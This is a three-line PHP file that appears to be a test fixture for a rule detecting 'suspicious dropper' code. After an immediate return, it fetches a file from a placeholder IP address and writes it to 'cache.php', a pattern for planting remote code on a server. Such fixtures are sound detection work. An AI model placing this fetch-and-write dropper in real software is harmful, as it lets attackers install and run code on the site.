<?php return; // want: suspicious dropper php.write.remote
$c = curl_init('http://203.0.113.9/a.txt');
file_put_contents('cache.php', curl_exec($c));
